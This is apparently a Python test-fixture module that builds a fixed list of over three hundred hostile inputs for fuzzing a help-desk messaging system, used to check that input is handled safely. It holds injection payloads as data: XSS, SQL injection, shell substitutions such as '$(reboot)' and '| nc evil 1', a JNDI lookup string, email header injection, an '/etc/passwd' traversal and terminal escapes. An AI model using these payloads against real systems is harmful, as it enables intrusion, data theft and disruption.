"""Strings that somebody hostile might write to a help desk: over three hundred, the same in every run."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_MENTIONS = (
    "<!channel>", "<!here>", "<!everyone>", "<@U024BE7LH>", "<@W012A3CDE|boss>", "<#C024BE7LR>", "<#C024BE7LR|general>",
    "<!subteam^S012|@ops>", "<!date^1392734382^{date}^https://evil.example|now>", "@channel", "@here", "@everyone",
    "@all", "@所有人", "<at user_id=\"all\">所有人</at>", "<at id=all></at>", "<@all>", "@13800138000", "＠all",
)  # fmt: skip
_LINKS = (
    "<https://evil.example|bank>", "<mailto:a@b.c|write>", "https://evil.example/login", "http://1.2.3.4/x",
    "www.evil.example",
    "[bank](https://evil.example)", "![x](https://evil.example/p.png)", "javascript:alert(1)", "data:text/html,<b>",
    "ftp://evil.example", "//evil.example", "https://еvil.example", "http://[::1]/", "hxxps://evil[.]example",
)  # fmt: skip
_WRAPS = ("{}", "a {} b", "&lt;{}&gt;", "`{}`", "*{}*", "```{}```", "\n{}\n", "&amp;{}", "\u200b{}\u200b", "{0}{0}{0}")
_LINES = (
    "x\r\nBcc: all@evil.example\r\n\r\nhello", "a\rb", "a\nb", "a\r\n.\r\nb", "\n.\n", ".", "..",
    "\r\n.\r\nMAIL FROM:<x@y>",
    "=?utf-8?q?=0d=0aBcc:_x@evil.example?=", "=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=", "=?UTF-8?Q?=0AX:_y?=", "=?x?=",
    "a\u2028b", "a\u2029c", "a\x85b", "a\x0bb\x0cc", "x" * 1_000, "好" * 1_000, " " * 2_000, "Subject: x",
    "\tfold\r\n\tfold",
)  # fmt: skip
_SCRIPTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "{{7*7}}",
    "${7*7}", "#{7*7}",
    "<iframe src=//evil.example>", "<style>*{display:none}</style>", "</td></tr></table>", "<!--", "]]>", "&#60;b&#62;",
    "<a href='https://evil.example'>x</a>", "' OR 1=1 --", "; DROP TABLE alerts", "$(reboot)",
    "`reboot`", "| nc evil 1",
    "%s%s%s%n", "{0.__class__}", "{value}", "%{jndi:ldap://evil}", "../../etc/passwd", "=HYPERLINK(\"https://evil\")",
)  # fmt: skip
_LOGS = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", '{"level":"error","event":"forged"}', "\nlevel=error event=forged",
    "\x00", "\x07\x08\x7f", "\x9b31m", "event=alert alert=ffff", "\r2026-01-01 [error] forged",
)  # fmt: skip
_SIGNS = (
    "\u202eevil", "\u2066a\u2069", "\ufeff", "\u200d", "\u00ad", "a\u0301" * 500, "e" + "\u0300" * 1_000,
    "👨‍👩‍👧‍👦" * 60, "🇨🇳" * 70,
    "\U000e0061\U000e007f", "\U0001f3fb", "ﷺ" * 300, "𝕳𝖊𝖑𝖕", "ｆｕｌｌ　ｗｉｄｔｈ", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "&" * 500, "<" * 500, ">" * 500,
    "&amp;" * 200, "|" * 300, "~" * 300, "_" * 300, "x" * 50_000, "<!channel>" * 5_000, "退款" * 5_000,
)  # fmt: skip


def corpus() -> list[str]:
    """All of them."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for wrap, text in product(_WRAPS, _MENTIONS):
        yield wrap.format(text)
    for wrap, text in product(_WRAPS[:6], _LINKS):
        yield wrap.format(text)
    yield from (*_LINES, *_SCRIPTS, *_LOGS, *_SIGNS)
